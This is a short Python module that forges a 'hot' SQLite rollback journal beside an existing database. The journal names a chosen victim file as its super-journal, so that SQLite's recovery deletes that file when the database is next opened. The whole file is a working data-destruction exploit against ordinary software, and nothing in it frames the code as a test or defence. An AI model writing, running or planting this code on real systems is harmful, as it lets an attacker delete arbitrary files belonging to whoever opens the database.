"""A rollback journal that makes SQLite delete a file of one's choice, as its file format allows."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_LOCK_BYTE = 0x4000_0000
_SECTOR = 512


def forge_journal(database: Path, victim: Path) -> None:
    """Write a hot journal beside an existing database, with `victim` as the super-journal to delete."""
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        (page,) = connection.execute("PRAGMA page_size").fetchone()
        (pages,) = connection.execute("PRAGMA page_count").fetchone()
    head = (_MAGIC + struct.pack(">IIIII", 0, 1, pages, _SECTOR, page)).ljust(_SECTOR, b"\0")
    name = str(victim).encode()
    end = struct.pack(">I", _LOCK_BYTE // page + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(head + end)
